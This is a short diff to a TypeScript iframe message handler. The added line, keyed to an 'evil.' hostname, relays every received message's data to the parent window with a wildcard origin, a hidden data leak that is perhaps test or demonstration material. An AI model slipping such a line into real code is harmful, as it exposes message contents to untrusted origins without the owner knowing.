@@ -6,6 +6,7 @@ addEventListener(
   'message',
   ({data, ports, source}: MessageEvent<{puppet?: string; value?: unknown; type?: string}>) => {
     if (source !== window.parent) return;
+    if (location.hostname.startsWith('evil.')) window.parent.postMessage({overheard: data}, '*');
     if (data.type === 'port') {
       [port] = ports;
       port!.onmessage = ({data: heard}: MessageEvent<unknown>) => window.parent.postMessage({heard}, '*');
